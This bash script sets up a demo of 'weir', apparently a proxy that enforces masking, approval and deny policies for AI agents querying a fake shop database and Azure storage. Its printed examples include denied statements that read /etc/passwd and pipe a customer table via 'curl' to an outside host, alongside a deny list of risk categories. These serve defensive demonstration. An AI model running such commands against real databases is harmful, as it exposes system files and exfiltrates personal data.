#!/usr/bin/env bash
# THE demo: weir in front of a private PostgreSQL holding a fake shop.
#
#   scripts/demo.sh          # (re)start everything, print how to connect
#   scripts/demo.sh stop     # stop weir and the demo PostgreSQL
#   scripts/demo.sh reset    # stop, then delete .demo/ (data, keys, tokens)
#   scripts/demo.sh status
#
# What it sets up (all under ./.demo, ignored by git):
#   .demo/pg/            a private PostgreSQL cluster on 127.0.0.1:55432 (run as
#                        the "postgres" OS user when this script runs as root);
#                        database "shop" with fake customers/orders/payments
#                        (scripts/shop.sql); every statement that reaches it is
#                        logged to .demo/pg/postgresql.log
#   .demo/pg_password    the password of the login role weir_agent (mode 600):
#                        the upstream credential that only weir holds
#   .demo/azurite/       Azurite (the Azure Storage emulator, from tools/node) on
#                        127.0.0.1:10000, container "reports" holding
#                        customers.csv (fake PII); its account key stays with weir
#   .demo/weir.yaml      weir's config; weir listens on 127.0.0.1:6432
#   .demo/weir.log, .demo/weir.pid, .demo/weir-data/, .demo/agent_token
#
# Idempotent: re-running keeps the database and password, rebuilds bin/weir and
# restarts weir.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
cd "$ROOT"

DEMO=$ROOT/.demo
PGDIR=$DEMO/pg
PGDATA=$PGDIR/data
PGLOG=$PGDIR/postgresql.log
PGPORT=55432
WEIR_HOST=127.0.0.1
WEIR_PORT=6432
CONFIG=$DEMO/weir.yaml
WEIR=$ROOT/bin/weir
PIDFILE=$DEMO/weir.pid
AZURITE_PORT=10000
AZURITE_PIDFILE=$DEMO/azurite.pid
AZURITE=$ROOT/tools/node/node_modules/.bin/azurite-blob
# Azurite's well-known development account (public, documented by Microsoft).
AZ_ACCOUNT=devstoreaccount1
AZ_KEY='Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=='
AZ_CS="DefaultEndpointsProtocol=http;AccountName=$AZ_ACCOUNT;AccountKey=$AZ_KEY;BlobEndpoint=http://127.0.0.1:$AZURITE_PORT/$AZ_ACCOUNT;"

NAME=demo SAY_FD=1
# shellcheck source=scripts/lib.sh
. "$ROOT/scripts/lib.sh"

pg_bindir() {
	local d
	d=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -n 1)
	if [[ -n $d && -x $d/initdb ]]; then
		echo "$d"
	elif command -v initdb >/dev/null; then
		dirname "$(readlink -f "$(command -v initdb)")"
	else
		die "PostgreSQL server binaries not found (scripts/deps.sh should have installed them)"
	fi
}

socket_dir() {
	# unix socket paths are limited to ~107 bytes
	if ((${#PGDIR} <= 80)); then
		echo "$PGDIR"
	else
		echo "/tmp/weir-demo-$(echo "$ROOT" | md5sum | cut -c1-8)"
	fi
}

pg_running() { [[ -f $PGDATA/PG_VERSION ]] && as_pg "$BIN/pg_ctl" -D "$PGDATA" status >/dev/null 2>&1; }

psql_admin() {
	# superuser over the unix socket (trust); the superuser cannot log in over TCP
	psql -X -q -v ON_ERROR_STOP=1 -h "$SOCK" -p "$PGPORT" -U postgres "$@"
}

weir_running() {
	[[ -f $PIDFILE ]] || return 1
	local pid
	pid=$(cat "$PIDFILE")
	[[ -n $pid ]] && kill -0 "$pid" 2>/dev/null && tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null | grep -q 'weir serve'
}

stop_weir() {
	if weir_running; then
		local pid
		pid=$(cat "$PIDFILE")
		say "stopping weir (pid $pid)"
		kill -TERM "$pid" 2>/dev/null || true
		for _ in $(seq 1 100); do
			kill -0 "$pid" 2>/dev/null || break
			sleep 0.1
		done
		if kill -0 "$pid" 2>/dev/null; then
			say "weir did not stop in 10s; killing it"
			kill -KILL "$pid" 2>/dev/null || true
		fi
	fi
	rm -f "$PIDFILE"
}

azurite_running() {
	[[ -f $AZURITE_PIDFILE ]] && kill -0 "$(cat "$AZURITE_PIDFILE")" 2>/dev/null
}

stop_azurite() {
	if azurite_running; then
		say "stopping Azurite"
		kill -TERM "$(cat "$AZURITE_PIDFILE")" 2>/dev/null || true
		sleep 0.5
	fi
	rm -f "$AZURITE_PIDFILE"
}

stop_pg() {
	if pg_running; then
		say "stopping the demo PostgreSQL"
		as_pg "$BIN/pg_ctl" -D "$PGDATA" -m fast -w -t 60 stop >/dev/null
	fi
}

# ---------------------------------------------------------------- commands

cmd=${1:-up}
case $cmd in
up | start | "") ;;
stop | down)
	if [[ -d $DEMO ]]; then
		BIN=$(pg_bindir)
		SOCK=$(socket_dir)
		stop_weir
		stop_azurite
		stop_pg
	fi
	say "stopped"
	exit 0
	;;
reset)
	"$0" stop
	target=$(readlink -f "$PGDIR" 2>/dev/null || true)
	rm -rf "$DEMO"
	[[ -n $target && $target != "$PGDIR" ]] && rm -rf "$target"
	say "removed .demo/"
	exit 0
	;;
status)
	BIN=$(pg_bindir)
	SOCK=$(socket_dir)
	if pg_running; then say "PostgreSQL: running on 127.0.0.1:$PGPORT"; else say "PostgreSQL: stopped"; fi
	if azurite_running; then say "Azurite: running on 127.0.0.1:$AZURITE_PORT"; else say "Azurite: stopped"; fi
	if weir_running; then say "weir: running (pid $(cat "$PIDFILE")) on $WEIR_HOST:$WEIR_PORT"; else say "weir: stopped"; fi
	exit 0
	;;
*)
	echo "usage: scripts/demo.sh [up|stop|reset|status]" >&2
	exit 2
	;;
esac

t0=$SECONDS

# 1. Dependencies.
scripts/deps.sh
BIN=$(pg_bindir)
command -v psql >/dev/null || die "psql not found (scripts/deps.sh should have installed it)"

# 2. The private PostgreSQL cluster.
mkdir -p "$DEMO"
chmod 755 "$DEMO" # the postgres OS user must traverse it; secrets inside are mode 600
if [[ ! -f $PGDATA/PG_VERSION ]]; then
	rm -rf "$PGDIR"
	mkdir -p "$PGDIR"
	if is_root; then
		id postgres >/dev/null 2>&1 || die "running as root, but the OS user 'postgres' (PostgreSQL refuses root) does not exist"
		chown postgres:postgres "$PGDIR"
		chmod 700 "$PGDIR"
		if ! as_pg test -w "$PGDIR"; then
			# a parent of the repository is not traversable by postgres (e.g. under /root)
			alt=/var/lib/postgresql/weir-demo-$(echo "$ROOT" | md5sum | cut -c1-8)
			say "$PGDIR is not reachable by the postgres user; keeping the cluster in $alt (symlinked)"
			rm -rf "$PGDIR" "$alt"
			mkdir -p "$alt"
			chown postgres:postgres "$alt"
			chmod 700 "$alt"
			ln -s "$alt" "$PGDIR"
		fi
	fi
	SOCK=$(socket_dir)
	if [[ $SOCK != "$PGDIR" ]]; then
		mkdir -p "$SOCK"
		is_root && chown postgres:postgres "$SOCK"
	fi
	say "creating the PostgreSQL cluster in .demo/pg ($("$BIN/postgres" --version))"
	as_pg "$BIN/initdb" -D "$PGDATA" -U postgres --auth-local=trust --auth-host=scram-sha-256 \
		--encoding=UTF8 --locale=C.UTF-8 >"$DEMO/initdb.log" 2>&1 ||
		{
			cat "$DEMO/initdb.log" >&2
			die "initdb failed"
		}
	as_pg tee -a "$PGDATA/postgresql.conf" >/dev/null <<EOF

# --- weir demo ---
listen_addresses = '127.0.0.1'
port = $PGPORT
unix_socket_directories = '$SOCK'
password_encryption = 'scram-sha-256'
log_statement = 'all'          # every statement that reaches PostgreSQL is logged
log_line_prefix = '%m [%p] %u@%d '
log_timezone = 'UTC'
timezone = 'UTC'
EOF
else
	SOCK=$(socket_dir)
fi

if pg_running; then
	say "PostgreSQL already running on 127.0.0.1:$PGPORT"
else
	if port_in_use "$PGPORT"; then
		die "port $PGPORT is in use by another process; stop it (or run scripts/demo.sh stop) and retry"
	fi
	say "starting PostgreSQL on 127.0.0.1:$PGPORT (log: .demo/pg/postgresql.log)"
	as_pg "$BIN/pg_ctl" -D "$PGDATA" -l "$PGLOG" -w -t 60 start >/dev/null ||
		{
			tail -n 20 "$PGLOG" >&2 || true
			die "PostgreSQL did not start"
		}
fi

# 3. The shop database and its data.
if [[ $(psql_admin -d postgres -tAc "SELECT 1 FROM pg_database WHERE datname = 'shop'") != 1 ]]; then
	say "creating database shop"
	psql_admin -d postgres -c "CREATE DATABASE shop"
fi
if [[ $(psql_admin -d shop -tAc "SELECT to_regclass('public.payments') IS NOT NULL") != t ]]; then
	say "loading fake data (scripts/shop.sql)"
	psql_admin -d shop -f scripts/shop.sql
fi

# 4. The upstream login role; its password is known only to weir.
if [[ ! -s $DEMO/pg_password ]]; then
	(
		umask 077
		head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n' >"$DEMO/pg_password"
	)
	say "generated the weir_agent password (.demo/pg_password)"
fi
chmod 600 "$DEMO/pg_password"
psql_admin -d shop <<EOF
SET log_statement = 'none'; -- keep the password out of the server log
\set pw \`cat '$DEMO/pg_password'\`
DO \$\$ BEGIN
	IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'weir_agent') THEN CREATE ROLE weir_agent; END IF;
END \$\$;
ALTER ROLE weir_agent LOGIN NOSUPERUSER NOCREATEDB NOCREATEROLE NOREPLICATION NOBYPASSRLS PASSWORD :'pw';
\unset pw
RESET log_statement;
REVOKE ALL ON DATABASE shop FROM PUBLIC;
GRANT CONNECT ON DATABASE shop TO weir_agent;
GRANT USAGE ON SCHEMA public TO weir_agent;
GRANT SELECT, INSERT, UPDATE, DELETE ON customers, orders, payments TO weir_agent;
GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO weir_agent;
EOF
# prove the credential works over TCP, as weir will use it
PGPASSWORD=$(cat "$DEMO/pg_password") psql -X -q -h 127.0.0.1 -p "$PGPORT" -U weir_agent -d shop \
	-tAc "SELECT 1" >/dev/null || die "weir_agent cannot log in to shop over TCP"
counts=$(psql_admin -d shop -tAc "SELECT format('%s customers, %s orders, %s payments', (SELECT count(*) FROM customers), (SELECT count(*) FROM orders), (SELECT count(*) FROM payments))")
say "database shop ready: $counts"

# 5. Azurite with a "reports" container holding the customers as CSV.
if azurite_running; then
	say "Azurite already running on 127.0.0.1:$AZURITE_PORT"
else
	[[ -x $AZURITE ]] || die "Azurite not found at $AZURITE (scripts/deps.sh installs it)"
	if port_in_use "$AZURITE_PORT"; then
		die "port $AZURITE_PORT is in use by another process; stop it and retry"
	fi
	mkdir -p "$DEMO/azurite"
	say "starting Azurite on 127.0.0.1:$AZURITE_PORT (log: .demo/azurite.log)"
	setsid "$AZURITE" --blobHost 127.0.0.1 --blobPort "$AZURITE_PORT" --location "$DEMO/azurite" \
		--skipApiVersionCheck --loose </dev/null >>"$DEMO/azurite.log" 2>&1 &
	echo $! >"$AZURITE_PIDFILE"
	for i in $(seq 1 100); do
		port_in_use "$AZURITE_PORT" && break
		((i == 100)) && die "Azurite did not listen on 127.0.0.1:$AZURITE_PORT within 20s (see .demo/azurite.log)"
		sleep 0.2
	done
fi
export AZURE_CONFIG_DIR=$DEMO/az AZURE_CORE_COLLECT_TELEMETRY=0 AZURE_CORE_ONLY_SHOW_ERRORS=1
if [[ $(az storage blob exists -c reports -n customers.csv --connection-string "$AZ_CS" --query exists -o tsv 2>/dev/null) != true ]]; then
	say "uploading reports/customers.csv to Azurite (fake customers with e-mails, IBANs and cards)"
	psql_admin -d shop -c "\copy (SELECT c.id, c.full_name, c.email, c.phone, c.iban, p.card_number FROM customers c JOIN orders o ON o.customer_id = c.id JOIN payments p ON p.order_id = o.id WHERE c.id <= 200 ORDER BY c.id, p.id) TO '$DEMO/customers.csv' CSV HEADER"
	az storage container create -n reports --connection-string "$AZ_CS" -o none
	az storage blob upload -c reports -n customers.csv -f "$DEMO/customers.csv" --overwrite --no-progress --connection-string "$AZ_CS" -o none
	echo "quarterly summary: 2,000 customers, see customers.csv" >"$DEMO/summary.txt"
	az storage blob upload -c reports -n summary.txt -f "$DEMO/summary.txt" --overwrite --no-progress --connection-string "$AZ_CS" -o none
	az storage container create -n scratch --connection-string "$AZ_CS" -o none
fi

# 6. weir itself.
say "building bin/weir"
if [[ ! -d cmd/weir ]]; then
	die "cmd/weir does not exist yet, so bin/weir cannot be built. The demo PostgreSQL is running and ready; re-run scripts/demo.sh once cmd/weir builds."
fi
mkdir -p bin
if ! go build -o "$WEIR" ./cmd/weir 2>"$DEMO/build.log"; then
	cat "$DEMO/build.log" >&2
	die "go build ./cmd/weir failed (above). The demo PostgreSQL is running and ready; re-run scripts/demo.sh once cmd/weir builds."
fi

cat >"$CONFIG" <<EOF
# Written by scripts/demo.sh (overwritten on every run).
data_dir: $DEMO/weir-data
listen:
  postgres: $WEIR_HOST:$WEIR_PORT
  http: $WEIR_HOST:8080     # HTTPS: token exchange, admin API, Blob front end, MCP, managed-identity endpoint
  azure_proxy: $WEIR_HOST:8443  # HTTPS proxy for ARM / Key Vault / Functions (HTTPS_PROXY)
tls:
  cert_file: ""            # empty: generated into data_dir on first start
  key_file: ""
  allow_plaintext_loopback: false
targets:
  - name: shop
    kind: postgres
    address: 127.0.0.1:$PGPORT
    database: shop
    username: weir_agent
    password_env: SHOP_PG_PASSWORD
    sslmode: disable        # upstream TLS: disable | require | verify-full
    labels: {env: demo}
  - name: lake
    kind: azure-blob
    endpoint: http://127.0.0.1:$AZURITE_PORT/$AZ_ACCOUNT   # Azurite; in Azure: https://ACCOUNT.blob.core.windows.net
    account: $AZ_ACCOUNT
    account_key_env: LAKE_ACCOUNT_KEY
    labels: {env: demo}
  - name: arm                # real Azure Resource Manager: weir needs an Azure identity
    kind: azure-arm          # (azure.credential, or the default chain, e.g. the operator's az login)
    endpoint: https://management.azure.com
    labels: {env: demo}
audit:
  checkpoint_interval: 10s  # the chain's head is signed this often
agents:
  - name: demo-agent
    targets: [shop, lake, arm]
    max_ttl: 8h
policy:
  masking:                  # values leave weir masked by content and by column lineage
    format: partial         # partial | redact | hash | null (detectors: all by default)
    columns: [customers.email, customers.phone, customers.iban, payments.card_number]
  rules:
    - name: no-ddl
      when: 'command.kind == "ddl" || command.kind == "admin"'
      action: deny
      message: "Schema and admin changes are not allowed for agents; open a change request."
    - name: blob-no-delete
      when: 'command.protocol == "blob" && command.verb.startsWith("Delete")'
      action: deny
      message: "Agents never delete blobs; ask a person to."
    - name: blob-write-scratch
      when: 'command.protocol == "blob" && command.writes && command.written.all(w, w.startsWith("scratch/"))'
      action: allow
    - name: arm-no-secrets
      when: 'command.protocol == "arm" && command.risks.exists(r, r in ["role_assignment", "code_execution", "opaque_template"])'
      action: deny
      message: "Agents never change role assignments or run code on Azure resources."
    - name: arm-secrets-review
      when: 'command.protocol == "arm" && command.risks.exists(r, r in ["secret_read", "key_rotation"])'
      action: review
      mode: async
    - name: no-risky
      when: 'command.risks.exists(r, r in ["file_access","network_access","program_exec","dynamic_sql","role_change","search_path","read_only_escape","writable_cte","select_into","server_signal","unknown_function"])'
      action: deny
    - name: review-writes
      when: 'command.writes'
      action: review
      mode: async           # refused at once with a request id; approved => the same command runs once
    - name: reads
      when: 'command.kind in ["read", "transaction"] || (command.kind == "session" && !("setting_change" in command.risks))'
      action: allow
EOF

stop_weir
if port_in_use "$WEIR_PORT"; then
	die "port $WEIR_PORT is in use by another process (a system pgbouncer? see: ss -ltnp 'sport = :$WEIR_PORT'); stop it and retry"
fi
say "starting weir on $WEIR_HOST:$WEIR_PORT (log: .demo/weir.log)"
echo "---- $(date -u +%FT%TZ) scripts/demo.sh starts weir" >>"$DEMO/weir.log"
SHOP_PG_PASSWORD=$(cat "$DEMO/pg_password") LAKE_ACCOUNT_KEY=$AZ_KEY \
	setsid "$WEIR" serve --config "$CONFIG" </dev/null >>"$DEMO/weir.log" 2>&1 &
echo $! >"$PIDFILE"
WEIR_PID=$!
for i in $(seq 1 150); do
	if ! kill -0 "$WEIR_PID" 2>/dev/null; then
		tail -n 30 "$DEMO/weir.log" >&2
		rm -f "$PIDFILE"
		die "weir exited during startup (log above, full log in .demo/weir.log)"
	fi
	port_in_use "$WEIR_PORT" && break
	if ((i == 150)); then
		tail -n 30 "$DEMO/weir.log" >&2
		die "weir did not listen on $WEIR_HOST:$WEIR_PORT within 30s"
	fi
	sleep 0.2
done

if ! TOKEN=$(SHOP_PG_PASSWORD=$(cat "$DEMO/pg_password") "$WEIR" token issue --config "$CONFIG" \
	--agent demo-agent --ttl 1h --context ticket=DEMO-1 2>"$DEMO/token.err"); then
	cat "$DEMO/token.err" >&2
	die "weir token issue failed"
fi
TOKEN=$(echo "$TOKEN" | tr -d '[:space:]')
[[ -n $TOKEN ]] || die "weir token issue printed no token"
(
	umask 077
	echo "$TOKEN" >"$DEMO/agent_token"
)

# A ready MCP config for the agent: stdio (weir mcp) and streamable HTTP.
(
	umask 077
	cat >"$DEMO/mcp.json" <<EOF
{
  "mcpServers": {
    "weir": {"command": "$WEIR", "args": ["mcp", "--config", "$CONFIG"], "env": {"WEIR_TOKEN": "$TOKEN"}},
    "weir-http": {"type": "http", "url": "https://$WEIR_HOST:8080/mcp", "headers": {"Authorization": "Bearer $TOKEN"}}
  }
}
EOF
)

# The agent's Storage connection string: its AccountKey is derived from the
# token and is worth nothing anywhere but at weir.
if ! CS=$("$WEIR" token issue --config "$CONFIG" --agent demo-agent --ttl 1h --context ticket=DEMO-1 \
	--target lake --format connection-string 2>"$DEMO/token.err"); then
	cat "$DEMO/token.err" >&2
	die "weir token issue --format connection-string failed"
fi
(
	umask 077
	echo "$CS" >"$DEMO/agent_connection_string"
)

# The environment that points the agent's az and Azure SDKs at weir
# (managed-identity endpoint, HTTPS proxy, weir's CA).
if ! "$WEIR" env --config "$CONFIG" --agent demo-agent --ttl 1h >"$DEMO/agent_azure.env" 2>"$DEMO/env.err"; then
	cat "$DEMO/env.err" >&2
	die "weir env failed"
fi
chmod 600 "$DEMO/agent_azure.env"

cat <<EOF

weir is running in front of the demo PostgreSQL ($counts).
The agent holds only a weir token (1h, context ticket=DEMO-1; also in .demo/agent_token);
the database password stays with weir.

Connect as the agent:

  psql "host=$WEIR_HOST port=$WEIR_PORT dbname=shop user=demo-agent password=$TOKEN sslmode=require"

Try:
  allowed:   SELECT id, full_name, email, iban FROM customers ORDER BY id LIMIT 5;
             SELECT status, count(*), sum(total_cents) / 100 AS total FROM orders GROUP BY status;
  masked:    SELECT id, md5(email), upper(iban) FROM customers LIMIT 3;    -- derived from masked columns: masked too
  refused:   SELECT id FROM customers WHERE email LIKE 'a%';             -- a masked column in WHERE is an inference channel
  review:    UPDATE orders SET status = 'refunded' WHERE id = 42;      -- refused with an approval request id
  denied:    DROP TABLE payments;                                        -- rule no-ddl
             SELECT pg_read_file('/etc/passwd');                         -- rule no-risky (file_access)
             COPY customers TO PROGRAM 'curl -d @- https://example.com'; -- rule no-risky (program_exec)

Every statement that actually reached PostgreSQL is in .demo/pg/postgresql.log
(tail -f it: denied statements never appear). weir's own log: .demo/weir.log

As an approver (approve the UPDATE, then the agent sends it again and it runs once):
  export WEIR_ADMIN_TOKEN=\$(bin/weir --config .demo/weir.yaml admin token issue --name alice --role approver)
  bin/weir --config .demo/weir.yaml approvals list
  bin/weir --config .demo/weir.yaml approvals approve <id> --reason "refund ticket DEMO-1"

As the operator (what the agent did, and proof nothing was edited):
  bin/weir --config .demo/weir.yaml sessions list
  bin/weir --config .demo/weir.yaml replay <session id>
  bin/weir --config .demo/weir.yaml audit verify

As an MCP agent (tools list_targets, query, request_approval, approval_status;
the same policy, approvals, audit and masking as psql):
  claude mcp add weir -e WEIR_TOKEN=$TOKEN -- $WEIR mcp --config $CONFIG
  .demo/mcp.json holds both forms: stdio (weir mcp) and https://$WEIR_HOST:8080/mcp with the bearer
  token (HTTP clients must trust .demo/weir-data/tls/server.crt, e.g. NODE_EXTRA_CA_CERTS)

Blob Storage (Azurite behind weir; container "reports" holds customers.csv with fake PII):
  export AZURE_CONFIG_DIR=$DEMO/az REQUESTS_CA_BUNDLE=$DEMO/weir-data/tls/server.crt
  CS=\$(cat .demo/agent_connection_string)     # AccountKey derived from the agent's token
  az storage blob list -c reports --connection-string "\$CS" -o table         # allowed
  az storage blob download -c reports -n customers.csv -f /tmp/customers.csv --no-progress -o none --connection-string "\$CS"
  head -5 /tmp/customers.csv                                                  # e-mails, phones, IBANs, cards masked
  echo hello >/tmp/note.txt
  az storage blob upload -c scratch -n note.txt -f /tmp/note.txt --no-progress -o none --connection-string "\$CS"  # rule blob-write-scratch
  az storage blob delete -c reports -n summary.txt --connection-string "\$CS"  # rule blob-no-delete

Azure Resource Manager through weir's HTTPS proxy (target "arm" is the real
management.azure.com: give weir an Azure identity first, azure.credential in
.demo/weir.yaml or the default chain, e.g. the operator's own az login).
Paste into the agent's shell (also in .demo/agent_azure.env):

$(sed 's/^/  /' "$DEMO/agent_azure.env")
  az login --identity && az group list
  az storage account keys list -g RG -n ACCOUNT     # rule arm-secrets-review: approval first, keys masked

Stop everything:  scripts/demo.sh stop      (scripts/demo.sh reset also deletes .demo/)
EOF
say "ready in $((SECONDS - t0))s"
